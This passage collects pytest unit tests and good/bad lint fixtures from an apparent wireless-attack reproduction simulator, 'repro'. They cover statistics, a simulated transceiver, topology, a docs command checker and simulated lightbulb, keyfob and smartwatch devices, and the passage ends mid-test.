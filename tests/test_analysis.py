"""Unit tests for experiment statistics and reporting."""

import pytest

from repro.analysis.reporting import render_distribution_table, render_series
from repro.analysis.stats import box_stats
from repro.errors import ConfigurationError


class TestBoxStats:
    def test_simple_sample(self):
        stats = box_stats([1, 2, 3, 4, 5])
        assert stats.median == 3
        assert stats.minimum == 1 and stats.maximum == 5
        assert stats.count == 5

    def test_quartiles(self):
        stats = box_stats(list(range(1, 101)))
        assert stats.q1 == pytest.approx(25.75)
        assert stats.q3 == pytest.approx(75.25)
        assert stats.iqr == pytest.approx(49.5)

    def test_variance_sample(self):
        stats = box_stats([2, 4, 4, 4, 5, 5, 7, 9])
        assert stats.variance == pytest.approx(4.571, abs=0.01)

    def test_single_value(self):
        stats = box_stats([7])
        assert stats.variance == 0.0
        assert stats.median == 7

    def test_empty_rejected(self):
        with pytest.raises(ConfigurationError):
            box_stats([])


class TestRendering:
    def test_distribution_table_has_all_rows(self):
        table = render_distribution_table(
            "Experiment 1", "hop interval",
            {25: [1, 2, 3], 50: [1, 1, 2]})
        assert "Experiment 1" in table
        assert "25" in table and "50" in table
        assert "med" in table

    def test_series(self):
        text = render_series("Scenarios", [("A", "success", 3),
                                           ("B", "success", 2)])
        assert "Scenarios" in text and "A" in text and "B" in text
