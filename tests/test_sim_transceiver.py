"""Unit tests for the transceiver state machine."""

import pytest

from repro.errors import MediumError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from repro.sim.transceiver import Transceiver, TransceiverState


@pytest.fixture
def world():
    sim = Simulator(seed=2)
    topo = Topology()
    topo.place("a", 0, 0)
    topo.place("b", 1, 0)
    medium = Medium(sim, topo)
    return sim, medium, Transceiver(sim, medium, "a"), Transceiver(sim, medium, "b")


class TestStates:
    def test_starts_idle(self, world):
        _, _, a, _ = world
        assert a.state is TransceiverState.IDLE

    def test_listen_enters_rx(self, world):
        _, _, a, _ = world
        a.listen(5)
        assert a.state is TransceiverState.RX
        assert a.is_listening_on(5, since_us=None)

    def test_stop_listening_returns_to_idle(self, world):
        _, _, a, _ = world
        a.listen(5)
        a.stop_listening()
        assert a.state is TransceiverState.IDLE

    def test_transmit_enters_tx(self, world):
        sim, _, a, _ = world
        a.transmit(1 << 20, bytes(10), 0, 5)
        assert a.state is TransceiverState.TX
        assert a.is_transmitting(sim.now)

    def test_tx_clears_after_frame(self, world):
        sim, _, a, _ = world
        frame = a.transmit(1 << 20, bytes(10), 0, 5)
        sim.run(until_us=frame.end_us + 1.0)
        assert not a.is_transmitting(sim.now)

    def test_cannot_double_transmit(self, world):
        _, _, a, _ = world
        a.transmit(1 << 20, bytes(30), 0, 5)
        with pytest.raises(MediumError):
            a.transmit(1 << 20, b"x", 0, 5)

    def test_invalid_channel_rejected(self, world):
        _, _, a, _ = world
        with pytest.raises(MediumError):
            a.listen(41)


class TestListeningWindow:
    def test_since_us_semantics(self, world):
        sim, _, a, _ = world
        sim.schedule_at(100.0, lambda: a.listen(5))
        sim.run()
        assert a.is_listening_on(5, since_us=150.0)
        assert not a.is_listening_on(5, since_us=50.0)

    def test_retune_updates_since(self, world):
        sim, _, a, _ = world
        a.listen(5)
        sim.schedule_at(100.0, lambda: a.listen(6))
        sim.run()
        assert not a.is_listening_on(6, since_us=50.0)


class TestCallbacks:
    def test_tx_complete_callback(self, world):
        sim, _, a, _ = world
        done = []
        a.on_tx_complete = done.append
        frame = a.transmit(1 << 20, b"zz", 0, 5)
        sim.run()
        assert done and done[0].frame_id == frame.frame_id

    def test_tx_duration_helper(self, world):
        _, _, a, _ = world
        assert a.tx_duration_us(14) == pytest.approx(176.0)
