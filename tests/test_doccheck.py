"""Tests for the executable-docs checker (``repro doccheck``).

Extraction is tested against synthetic markdown; execution against a
fixture README whose commands are cheap (cache inspection) so the
self-test stays fast.  The real README/EXPERIMENTS files get a
structural extraction check here — actually *running* them is CI's
dedicated doccheck step.
"""

from __future__ import annotations

import json
from pathlib import Path

from repro.cli import main
from repro.doccheck import (
    budget_argv,
    check_docs,
    default_doc_paths,
    extract_commands,
)

REPO_ROOT = Path(__file__).resolve().parent.parent


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "README.md"
    path.write_text(text)
    return path


class TestExtraction:
    def test_bash_and_console_fences_are_scanned(self, tmp_path):
        path = _write(tmp_path, """
Intro prose.

```bash
repro experiment hop --connections 25
```

```console
$ repro metrics payload --jobs 2
output line, not a command
```

```python
repro = "not a command here"
```
""")
        commands = extract_commands(path)
        assert [list(c.argv) for c in commands] == [
            ["repro", "experiment", "hop", "--connections", "25"],
            ["repro", "metrics", "payload", "--jobs", "2"],
        ]

    def test_non_repro_lines_and_comments_are_skipped(self, tmp_path):
        path = _write(tmp_path, """
```bash
pip install -e .
# a comment
pytest -x
repro cache info  # trailing comment is stripped
repro doccheck    # never recurses
repro lint --format json  # doccheck: skip
```
""")
        commands = extract_commands(path)
        assert [list(c.argv) for c in commands] == [
            ["repro", "cache", "info"],
        ]

    def test_env_assignments_and_python_dash_m(self, tmp_path):
        path = _write(tmp_path, """
```bash
REPRO_JOBS=4 repro experiment distance
python -m repro cache info
```
""")
        first, second = extract_commands(path)
        assert first.env == (("REPRO_JOBS", "4"),)
        assert list(first.argv) == ["repro", "experiment", "distance"]
        assert list(second.argv) == ["repro", "cache", "info"]

    def test_backslash_continuations_are_joined(self, tmp_path):
        path = _write(tmp_path, """
```bash
repro campaign run spec.json \\
    --journal out.jsonl \\
    --jobs 2
```
""")
        (command,) = extract_commands(path)
        assert list(command.argv) == [
            "repro", "campaign", "run", "spec.json",
            "--journal", "out.jsonl", "--jobs", "2"]

    def test_commands_share_block_index_within_a_fence(self, tmp_path):
        path = _write(tmp_path, """
```bash
repro cache info
repro cache clear
```

```bash
repro cache info
```
""")
        a, b, c = extract_commands(path)
        assert a.block == b.block
        assert c.block != a.block


class TestBudget:
    def test_sweeps_are_cut_to_two_connections(self):
        assert budget_argv(
            ["repro", "experiment", "hop", "--connections", "25"]) == \
            ["repro", "experiment", "hop", "--connections", "2"]
        assert budget_argv(["repro", "metrics", "payload"]) == \
            ["repro", "metrics", "payload", "--connections", "2"]

    def test_capture_duration_is_cut(self):
        assert budget_argv(
            ["repro", "capture", "--duration", "30"]) == \
            ["repro", "capture", "--duration", "1"]

    def test_campaign_and_cheap_commands_run_unmodified(self):
        for argv in (["repro", "campaign", "run", "spec.json"],
                     ["repro", "cache", "info"],
                     ["repro", "lint"]):
            assert budget_argv(argv) == argv

    def test_flag_value_form_is_replaced(self):
        assert budget_argv(
            ["repro", "experiment", "hop", "--connections=50"]) == \
            ["repro", "experiment", "hop", "--connections", "2"]


class TestExecution:
    def test_good_fixture_passes(self, tmp_path, capsys):
        path = _write(tmp_path, """
```bash
repro cache info
repro cache clear
```
""")
        report = check_docs(paths=[path], root=REPO_ROOT)
        assert report.ok
        assert len(report.results) == 2
        assert "0 failure(s)" in report.render_text()

    def test_flag_drift_is_detected(self, tmp_path):
        path = _write(tmp_path, """
```bash
repro cache info --no-such-flag
```
""")
        report = check_docs(paths=[path], root=REPO_ROOT)
        assert not report.ok
        (failure,) = report.failures
        assert failure.exit_code == 2
        assert "flag drift" in failure.detail
        doc = json.loads(report.to_json())
        assert doc["ok"] is False
        assert doc["results"][0]["status"] == "failed"

    def test_removed_subcommand_is_detected(self, tmp_path):
        path = _write(tmp_path, """
```bash
repro teleport --to mars
```
""")
        report = check_docs(paths=[path], root=REPO_ROOT)
        assert not report.ok

    def test_cli_exit_codes(self, tmp_path, capsys):
        good = _write(tmp_path, "```bash\nrepro cache info\n```\n")
        assert main(["doccheck", str(good),
                     "--root", str(REPO_ROOT)]) == 0
        capsys.readouterr()
        bad = tmp_path / "BAD.md"
        bad.write_text("```bash\nrepro cache info --bogus\n```\n")
        assert main(["doccheck", str(bad),
                     "--root", str(REPO_ROOT)]) == 1
        out = capsys.readouterr().out
        assert "failure" in out

    def test_json_format(self, tmp_path, capsys):
        good = _write(tmp_path, "```bash\nrepro cache info\n```\n")
        assert main(["doccheck", str(good), "--root", str(REPO_ROOT),
                     "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["ok"] is True


class TestRealDocs:
    """Structural checks on the real docs (execution happens in CI)."""

    def test_default_paths_exist(self):
        paths = default_doc_paths(REPO_ROOT)
        assert [p.name for p in paths] == [
            "README.md", "EXPERIMENTS.md", "ARCHITECTURE.md", "DEFENSE.md"]
        assert all(p.exists() for p in paths)

    def test_docs_dir_is_scanned_sorted(self, tmp_path):
        (tmp_path / "README.md").write_text("hi\n")
        docs = tmp_path / "docs"
        docs.mkdir()
        (docs / "ZEBRA.md").write_text("z\n")
        (docs / "ALPHA.md").write_text("a\n")
        (docs / "notes.txt").write_text("not markdown\n")
        paths = default_doc_paths(tmp_path)
        assert [p.name for p in paths] == [
            "README.md", "ALPHA.md", "ZEBRA.md"]

    def test_defense_handbook_examples_are_extracted(self):
        commands = extract_commands(REPO_ROOT / "docs" / "DEFENSE.md")
        assert any(c.argv[1:3] == ("experiment", "defense")
                   for c in commands)

    def test_readme_examples_are_extracted(self):
        commands = extract_commands(REPO_ROOT / "README.md")
        assert len(commands) >= 10
        assert all(c.argv[0] == "repro" for c in commands)
        subcommands = {c.argv[1] for c in commands}
        # Every documented surface keeps at least one executable example.
        assert {"experiment", "scenario", "campaign", "cache",
                "lint"} <= subcommands

    def test_campaign_chapter_examples_are_extracted(self):
        commands = extract_commands(REPO_ROOT / "EXPERIMENTS.md")
        actions = {c.argv[2] for c in commands
                   if c.argv[1] == "campaign" and len(c.argv) > 2}
        assert {"run", "status", "report"} <= actions
