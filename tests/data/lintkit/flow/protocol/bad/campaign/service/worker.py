"""Fixture: worker protocol with a dead handler branch."""


def run_worker(channel):
    """Drive one session."""
    welcome = channel.request({"op": "hello"})
    op = welcome.get("op")
    if op == "welcome":
        return lease_loop(channel)
    if op == "retire":
        return None
    return None


def lease_loop(channel):
    """Lease until drained."""
    reply = channel.request({"op": "lease"})
    if reply.get("op") == "unit":
        return reply
    return None
