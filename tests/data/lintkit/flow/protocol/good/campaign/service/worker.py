"""Fixture: worker protocol handling every coordinator reply."""


def run_worker(channel):
    """Drive one session."""
    welcome = channel.request({"op": "hello"})
    op = welcome.get("op")
    if op == "welcome":
        return lease_loop(channel)
    return None


def lease_loop(channel):
    """Lease until drained."""
    reply = channel.request({"op": "lease"})
    op = reply.get("op")
    if op == "unit":
        return reply
    if op == "drained":
        return None
    return None
