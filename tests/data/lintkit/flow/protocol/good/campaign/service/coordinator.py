"""Fixture: coordinator whose every reply has a worker-side handler."""


def handle_message(message):
    """Dispatch one worker-protocol message."""
    op = message.get("op")
    if op == "hello":
        return {"op": "welcome"}
    if op == "lease":
        return {"op": "unit"}
    return {"op": "drained"}
