"""Fixture: lease loop that leaks and swallows taxonomy errors."""

from campaign.errors import ServiceError


def decode_frame(payload):
    """Decode one frame; malformed payloads raise KeyError."""
    if "frame" not in payload:
        raise KeyError("frame")
    return payload["frame"]


def lease_once(channel):
    """Lease one unit or raise ServiceError on protocol violations."""
    reply = channel.request({"op": "lease"})
    if reply.get("op") != "unit":
        raise ServiceError(f"unexpected reply: {reply!r}")
    return reply


def run_worker(channel):
    """Drive the lease loop."""
    reply = lease_once(channel)
    return decode_frame(reply)


def consume_all(channel):
    """Process replies until drained, ignoring failures."""
    try:
        lease_once(channel)
    except Exception:
        return None
    return True
