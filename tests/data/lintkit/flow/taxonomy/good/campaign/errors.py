"""Fixture error taxonomy mirroring ``repro.errors``."""


class ReproError(Exception):
    """Root of the fixture error taxonomy."""


class ServiceError(ReproError):
    """Coordinator/worker failures."""
