"""Fixture: lease loop with a sound error taxonomy."""

from campaign.errors import ServiceError


def decode_frame(payload):
    """Decode one frame; malformed payloads raise ServiceError."""
    if "frame" not in payload:
        raise ServiceError("reply carried no frame")
    return payload["frame"]


def lease_once(channel):
    """Lease one unit or raise ServiceError on protocol violations."""
    reply = channel.request({"op": "lease"})
    if reply.get("op") != "unit":
        raise ServiceError(f"unexpected reply: {reply!r}")
    return reply


def run_worker(channel):
    """Drive the lease loop."""
    reply = lease_once(channel)
    return decode_frame(reply)


def consume_all(channel):
    """Process replies until drained, classifying failures."""
    try:
        return lease_once(channel)
    except ServiceError:
        return None
