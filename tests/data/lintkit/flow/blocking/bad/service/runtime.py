"""Fixture: blocking joins reachable from the serve coroutines.

Re-enacts the PR 8 freeze in three shapes: a direct ``process.join``
inside an ``async def``, the same join hidden behind a sync helper,
and a closure joined from its async parent.
"""


def stop_fleet(fleet):
    """Join every worker process."""
    for process in fleet:
        process.join(5.0)


class Server:
    """Serve-loop wrapper around a worker fleet."""

    async def shutdown(self, fleet):
        """Drain and stop — blocks the loop through a helper."""
        stop_fleet(fleet)

    async def reap(self, fleet):
        """Join exited workers directly on the loop."""
        for process in fleet:
            process.join(5.0)


async def serve(fleet):
    """Run until cancelled, then drain via a closure."""

    def drain():
        for process in fleet:
            process.join(1.0)

    drain()
