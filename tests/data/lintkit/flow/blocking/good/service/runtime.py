"""Fixture: blocking joins hopped through the executor.

The compliant twin of the PR 8 re-enactment — every join runs off the
event loop via ``run_in_executor``, and spawning a worker process does
not propagate the target's blocking effect.
"""

import asyncio
import multiprocessing


def stop_fleet(fleet):
    """Join every worker process (called off-loop only)."""
    for process in fleet:
        process.join(5.0)


def worker_entry(unit):
    """Worker process body; blocking here is fine."""
    unit.wait()


class Server:
    """Serve-loop wrapper around a worker fleet."""

    async def shutdown(self, fleet):
        """Drain and stop without stalling the loop."""
        loop = asyncio.get_running_loop()
        await loop.run_in_executor(None, stop_fleet, fleet)

    async def launch(self, unit):
        """Spawn a worker; the target's blocking stays in the child."""
        process = multiprocessing.Process(target=worker_entry, args=(unit,))
        process.start()
        return process
