"""Fixture: draw volume gated on telemetry state."""


def advance(world, metrics_enabled):
    """Advance one tick; draws extra jitter only when metrics are on."""
    if metrics_enabled:
        world.rng.normal(0.0, 1.0)
    return world.step()
