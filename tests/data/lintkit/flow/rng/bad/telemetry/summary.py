"""Fixture: reporting helpers that consume simulation stream state."""


class NoiseSource:
    """Wraps a child RNG stream for display smoothing."""

    def sample(self, rng):
        """Draw one jitter sample from the stream."""
        return rng.normal(0.0, 1.0)


def render_row(noise_rng, value):
    """Format one report row with freshly sampled jitter."""
    source = NoiseSource()
    return value + source.sample(noise_rng)
