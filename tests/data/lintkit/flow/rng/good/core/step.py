"""Fixture: stream consumption independent of telemetry state."""


def advance(world, metrics_enabled):
    """Advance one tick; the draw happens either way."""
    jitter = world.rng.normal(0.0, 1.0)
    if metrics_enabled:
        world.metrics.record(jitter)
    return world.step()
