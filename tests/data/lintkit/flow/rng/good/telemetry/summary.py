"""Fixture: reporting helpers fed precomputed jitter values."""


def render_row(jitter_value, value):
    """Format one report row; consumes no stream state."""
    return value + jitter_value
