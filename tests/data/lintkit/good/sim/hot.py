"""Fixture: the compliant twin of bad/sim/hot.py."""


class HotPath:
    """Compliant fixture hot path."""

    def __init__(self, sim, metrics):
        self.sim = sim
        self._metrics = metrics
        self._m_tx = metrics.counter("fixture.tx")

    def churn(self, frames):
        total = 0
        for channel in sorted({37, 38, 39}):  # sorted: deterministic order
            total += channel
        trace = self.sim.trace
        for frame in frames:
            if abs(frame.start_us - 5.0) <= 1e-9:  # tolerance compare
                total += 1
            if self._metrics.enabled:
                self._m_tx.inc()
            if trace.enabled:
                trace.record(frame.start_us, "fixture", "tx")
        return total

    def early_return_guard(self, frame):
        if not self.sim.trace.enabled:
            return
        self.sim.trace.record(frame.start_us, "fixture", "tx")
