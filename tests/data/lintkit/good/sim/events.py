"""Fixture: hot-path class done right (missing-slots negative)."""


class FixtureEvent:
    """Per-event handle with __slots__."""

    __slots__ = ("time_us", "handler")

    def __init__(self, time_us, handler):
        self.time_us = time_us
        self.handler = handler
