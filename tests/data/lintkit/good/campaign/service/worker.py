"""Worker-loop fixture: taxonomy-clean lease path."""

from campaign.errors import ServiceError


def run_worker(channel):
    """Drive one lease session over ``channel``."""
    welcome = channel.request({"op": "hello"})
    op = welcome.get("op")
    if op == "idle":
        return None
    if op != "welcome":
        raise ServiceError(f"unexpected reply: {welcome!r}")
    reply = channel.request({"op": "lease"})
    if reply.get("op") == "unit":
        return reply
    return None
