"""Serve-loop fixture: blocking work hopped through the executor."""

import asyncio


async def drain_fleet(fleet):
    """Wait for every worker process to exit without stalling the loop."""
    loop = asyncio.get_running_loop()
    for process in fleet:
        await loop.run_in_executor(None, process.join, 5.0)


async def poll(fleet):
    """Poll worker liveness between drain rounds."""
    await asyncio.sleep(0.25)
    return [process.exitcode for process in fleet]
