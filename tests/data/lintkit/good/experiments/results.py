"""Fixture: picklable plain-data result (result-capture negative)."""

from dataclasses import dataclass
from typing import Optional


@dataclass
class PlainTrialResult:
    """Scalars and plain containers only: survives pickle and replay."""

    success: bool
    attempts: int = 0
    metrics: Optional[dict] = None
