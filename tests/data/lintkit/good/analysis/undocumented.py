"""Fixture: documented twin of bad/analysis/undocumented.py."""


def summarize(results):
    """Count the results."""
    return len(results)


class ReportTable:
    """A rendered report table."""


def _helper():  # private: exempt with or without a docstring
    return None
