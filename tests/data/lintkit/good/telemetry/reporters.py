"""Trace-sink fixture that leaves simulation RNG state untouched."""


def jitter_timestamps(offsets, frames):
    """Apply precomputed display offsets; consumes no stream state."""
    return [frame + offset for frame, offset in zip(frames, offsets)]
