"""Fixture: deterministic twin of bad/core/clockleak.py."""

from repro.utils.rand import RngStreams


def jitter_sample(seed):
    """Seeded, reproducible jitter sample."""
    streams = RngStreams(seed)
    # Seeded stream draw plus simulated time: both reproducible.
    return float(streams.get("jitter").uniform(0.0, 1.0))
