"""Fixture: spec constant from the canonical module (magic-number negative)."""

from repro.utils.units import T_IFS_US


def response_deadline(frame_end_us):
    """Deadline for the response frame (canonical constant)."""
    return frame_end_us + T_IFS_US
