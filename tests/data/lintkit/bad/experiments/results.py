"""Fixture: cached result capturing the world (result-capture)."""

from dataclasses import dataclass
from typing import Optional

from repro.sim.simulator import Simulator


@dataclass
class LeakyTrialResult:
    """Result that drags the whole simulated world through pickle."""

    success: bool
    sim: Optional[Simulator] = None
