"""Fixture: hot-path class without __slots__ (missing-slots positive)."""


class FixtureEvent:
    """Per-event handle that forgot to declare __slots__."""

    def __init__(self, time_us, handler):
        self.time_us = time_us
        self.handler = handler
