"""Fixture: hot-path violations (set-iteration, float-time-eq,
telemetry-guard positives) plus one inline waiver."""


class HotPath:
    """Fixture hot path with deliberate telemetry violations."""

    def __init__(self, sim, metrics):
        self.sim = sim
        self._m_tx = metrics.counter("fixture.tx")

    def churn(self, frames):
        total = 0
        for channel in {37, 38, 39}:  # set-iteration: hash order
            total += channel
        for frame in frames:
            if frame.start_us == 5.0:  # float-time-eq: exact float compare
                total += 1
            self._m_tx.inc()  # telemetry-guard: unguarded instrument update
            self.sim.trace.record(frame.start_us, "fixture", "tx")
        return total

    def bind_late(self):
        # telemetry-guard: instrument bound outside __init__
        return self.sim.metrics.counter("fixture.late")

    def waived(self, frame):
        self.sim.trace.record(0.0, "fixture", "cold")  # lint-ok: telemetry-guard one-shot setup record
