"""Fixture: re-literalised spec constant (magic-number)."""


def response_deadline(frame_end_us):
    """Deadline for the response frame."""
    return frame_end_us + 150.0  # magic-number: T_IFS re-typed
