"""Fixture: public API without docstrings (missing-docstring)."""


def summarize(results):  # missing-docstring: public, no docstring
    return len(results)


class ReportTable:  # missing-docstring: public, no docstring
    pass


def _helper():  # private: exempt
    return None
