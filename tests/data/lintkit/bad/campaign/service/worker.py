"""Worker-loop fixture: a taxonomy leak on the lease path."""


def run_worker(channel):
    """Drive one lease session over ``channel``."""
    welcome = channel.request({"op": "hello"})
    op = welcome.get("op")
    if op != "welcome":
        raise ValueError(f"unexpected reply: {welcome!r}")
    reply = channel.request({"op": "lease"})
    if reply.get("op") == "unit":
        return reply
    return None
