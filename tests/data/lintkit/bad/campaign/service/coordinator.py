"""Coordinator fixture: one reply op the worker cannot parse."""


def handle_message(message):
    """Dispatch one worker-protocol message."""
    op = message.get("op")
    if op == "hello":
        return {"op": "welcome"}
    if op == "lease":
        return {"op": "unit"}
    return {"op": "idle"}
