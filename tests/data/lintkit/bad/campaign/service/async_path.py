"""Serve-loop fixture: blocking calls reachable from coroutines.

Re-enacts the PR 8 freeze — a coroutine joining worker processes
directly, stalling the event loop — plus the interprocedural variant
where the sleep hides one call deep.
"""

import time


def settle(delay_s):
    """Let the fleet settle before polling again."""
    time.sleep(delay_s)


async def drain_fleet(fleet):
    """Wait for every worker process to exit."""
    for process in fleet:
        process.join(5.0)


async def poll(fleet):
    """Poll worker liveness between drain rounds."""
    settle(0.25)
    return [process.exitcode for process in fleet]
