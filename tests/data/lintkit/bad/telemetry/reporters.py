"""Trace-sink fixture that consumes simulation RNG state."""


def jitter_timestamps(rng, frames):
    """Smooth frame timestamps for display by adding sampled noise."""
    return [frame + rng.normal(0.0, 0.5) for frame in frames]
