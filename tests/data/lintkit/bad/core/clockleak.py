"""Fixture: ambient entropy and wall clocks (nondeterministic-call)."""

import random
import time


def jitter_sample():
    """Sample ambient jitter (deliberately nondeterministic)."""
    # nondeterministic-call: module-level random plus a wall-clock read
    return random.random() + time.time()
