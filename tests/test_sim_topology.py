"""Unit tests for topology geometry."""

import math

import pytest

from repro.errors import ConfigurationError
from repro.phy.path_loss import Wall
from repro.sim.topology import Point, SpatialGrid, Topology, WallSegment


class TestPoint:
    def test_distance(self):
        assert Point(0, 0).distance_to(Point(3, 4)) == 5.0

    def test_distance_symmetric(self):
        a, b = Point(1, 2), Point(-3, 7)
        assert a.distance_to(b) == b.distance_to(a)


class TestWallSegment:
    def test_crossing_detected(self):
        wall = WallSegment(Point(0, -1), Point(0, 1))
        assert wall.crosses(Point(-1, 0), Point(1, 0))

    def test_parallel_paths_do_not_cross(self):
        wall = WallSegment(Point(0, -1), Point(0, 1))
        assert not wall.crosses(Point(1, -1), Point(1, 1))

    def test_path_short_of_wall(self):
        wall = WallSegment(Point(5, -1), Point(5, 1))
        assert not wall.crosses(Point(0, 0), Point(4, 0))

    def test_path_missing_wall_extent(self):
        wall = WallSegment(Point(0, 1), Point(0, 2))
        assert not wall.crosses(Point(-1, 0), Point(1, 0))

    def test_touching_endpoint_counts(self):
        wall = WallSegment(Point(0, 0), Point(0, 2))
        assert wall.crosses(Point(-1, 0), Point(0, 0))


class TestTopology:
    def test_place_and_distance(self):
        topo = Topology()
        topo.place("a", 0, 0)
        topo.place("b", 0, 5)
        assert topo.distance("a", "b") == 5.0

    def test_replace_moves_device(self):
        topo = Topology()
        topo.place("a", 0, 0)
        topo.place("a", 10, 0)
        topo.place("b", 0, 0)
        assert topo.distance("a", "b") == 10.0

    def test_unknown_device_rejected(self):
        with pytest.raises(ConfigurationError):
            Topology().position_of("ghost")

    def test_walls_between(self):
        topo = Topology()
        topo.place("a", -2, 0)
        topo.place("b", 2, 0)
        topo.add_wall(0, -10, 0, 10, attenuation_db=7.5)
        walls = topo.walls_between("a", "b")
        assert len(walls) == 1
        assert walls[0].attenuation_db == 7.5

    def test_no_walls_between_same_side(self):
        topo = Topology()
        topo.place("a", 1, 0)
        topo.place("b", 2, 0)
        topo.add_wall(0, -10, 0, 10)
        assert topo.walls_between("a", "b") == ()

    def test_equilateral_triangle_edges(self):
        topo = Topology.equilateral_triangle(("x", "y", "z"), edge_m=2.0)
        assert topo.distance("x", "y") == pytest.approx(2.0)
        assert topo.distance("y", "z") == pytest.approx(2.0)
        assert topo.distance("x", "z") == pytest.approx(2.0)

    def test_equilateral_invalid_edge(self):
        with pytest.raises(ConfigurationError):
            Topology.equilateral_triangle(("x", "y", "z"), edge_m=0.0)

    def test_version_bumps_on_place_and_wall(self):
        topo = Topology()
        v0 = topo.version
        topo.place("a", 0, 0)
        v1 = topo.version
        topo.add_wall(0, -1, 0, 1)
        v2 = topo.version
        assert v0 != v1 and v1 != v2


def _scatter(n=60):
    """A deterministic pseudo-random scatter over ~50x50 m."""
    topo = Topology()
    for i in range(n):
        topo.place(f"d{i}", float((i * 17) % 53), float((i * 29) % 47))
    return topo


class TestSpatialGrid:
    def test_near_is_superset_of_devices_in_radius(self):
        # The grid guarantees a superset: walking ceil(r/cell)+1 Chebyshev
        # rings covers every cell a circle of radius r can touch.
        topo = _scatter()
        grid = SpatialGrid(topo, cell_m=10.0)
        for center_name in ("d0", "d7", "d31"):
            center = topo.position_of(center_name)
            for radius in (0.0, 5.0, 12.5, 40.0):
                near = grid.near(center, radius)
                for name, p in topo.positions.items():
                    if center.distance_to(p) <= radius:
                        assert name in near, (center_name, radius, name)

    def test_cell_size_clamped_to_minimum(self):
        topo = _scatter(4)
        grid = SpatialGrid(topo, cell_m=0.0)
        assert grid.cell_m == SpatialGrid.MIN_CELL_M

    def test_snapshot_records_topology_version(self):
        topo = _scatter(4)
        grid = SpatialGrid(topo, cell_m=5.0)
        assert grid.version == topo.version
        topo.place("d0", 1000.0, 1000.0)
        # The snapshot is stale now — consumers rebuild on version mismatch.
        assert grid.version != topo.version
        assert "d0" in grid.near(Point(0.0, 0.0), 60.0)

    def test_zero_radius_covers_own_and_adjacent_cells(self):
        topo = Topology()
        topo.place("a", 0.5, 0.5)
        topo.place("b", 1.5, 0.5)  # adjacent cell
        topo.place("c", 40.0, 40.0)
        grid = SpatialGrid(topo, cell_m=1.0)
        near = grid.near(topo.position_of("a"), 0.0)
        assert "a" in near and "b" in near and "c" not in near
