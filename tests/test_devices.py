"""Unit tests for the simulated victim devices."""

import pytest

from repro.devices import Keyfob, Lightbulb, Smartwatch
from repro.devices.keyfob import ALERT_HIGH, ALERT_NONE
from repro.devices.lightbulb import (
    OP_TOGGLE,
    UUID_BULB_CONTROL,
    UUID_BULB_STATE,
)
from repro.devices.smartwatch import Sms, UUID_WATCH_SMS
from repro.errors import CodecError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


@pytest.fixture
def world():
    sim = Simulator(seed=5)
    topo = Topology()
    for i, name in enumerate(("bulb", "fob", "watch")):
        topo.place(name, float(i), 0.0)
    return sim, Medium(sim, topo)


class TestLightbulb:
    def test_profile_registered(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        assert bulb.gatt.find_characteristic(UUID_BULB_CONTROL) is not None
        assert bulb.gatt.find_characteristic(UUID_BULB_STATE) is not None

    def test_power_command(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(Lightbulb.power_payload(False))
        assert not bulb.is_on
        bulb._on_control(Lightbulb.power_payload(True))
        assert bulb.is_on

    def test_color_command(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(Lightbulb.color_payload(10, 20, 30))
        assert bulb.color == (10, 20, 30)

    def test_brightness_command(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(Lightbulb.brightness_payload(42))
        assert bulb.brightness == 42

    def test_empty_write_toggles(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(b"")
        assert not bulb.is_on

    def test_toggle_opcode(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(bytes([OP_TOGGLE]))
        assert not bulb.is_on

    def test_padded_payload_sizes(self):
        assert len(Lightbulb.power_payload(False, pad_to=5)) == 5
        assert len(Lightbulb.color_payload(1, 2, 3, pad_to=7)) == 7

    def test_command_log(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(Lightbulb.power_payload(False))
        assert bulb.command_log == [("power", False)]

    def test_state_readback(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        bulb._on_control(Lightbulb.color_payload(9, 8, 7))
        assert bulb._read_state() == bytes([1, 9, 8, 7, 255])

    def test_describe(self, world):
        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        assert "on" in bulb.describe()


class TestKeyfob:
    def test_ring_on_alert(self, world):
        sim, medium = world
        fob = Keyfob(sim, medium, "fob")
        fob._on_alert(Keyfob.ring_payload(ALERT_HIGH))
        assert fob.is_ringing and fob.ring_count == 1

    def test_silence(self, world):
        sim, medium = world
        fob = Keyfob(sim, medium, "fob")
        fob._on_alert(Keyfob.ring_payload())
        fob._on_alert(bytes([ALERT_NONE]))
        assert not fob.is_ringing
        assert fob.ring_count == 1

    def test_battery_service_present(self, world):
        sim, medium = world
        fob = Keyfob(sim, medium, "fob")
        assert fob.gatt.find_characteristic(0x2A19) is not None


class TestSmartwatch:
    def test_sms_round_trip(self):
        sms = Sms("Alice", "hello there")
        assert Sms.from_bytes(sms.to_bytes()) == sms

    def test_sms_empty_rejected(self):
        with pytest.raises(CodecError):
            Sms.from_bytes(b"")

    def test_sms_truncated_rejected(self):
        with pytest.raises(CodecError):
            Sms.from_bytes(b"\x09ab")

    def test_inbox_accumulates(self, world):
        sim, medium = world
        watch = Smartwatch(sim, medium, "watch")
        watch._on_sms(Sms("A", "1").to_bytes())
        watch._on_sms(Sms("B", "2").to_bytes())
        assert [s.sender for s in watch.inbox] == ["A", "B"]
        assert watch.last_sms.text == "2"

    def test_empty_inbox_raises(self, world):
        sim, medium = world
        watch = Smartwatch(sim, medium, "watch")
        with pytest.raises(IndexError):
            watch.last_sms

    def test_malformed_sms_ignored(self, world):
        sim, medium = world
        watch = Smartwatch(sim, medium, "watch")
        watch._on_sms(b"")
        assert watch.inbox == []

    def test_profile(self, world):
        sim, medium = world
        watch = Smartwatch(sim, medium, "watch")
        assert watch.gatt.find_characteristic(UUID_WATCH_SMS) is not None


class TestDeviceNameCharacteristic:
    def test_gap_device_name_matches(self, world):
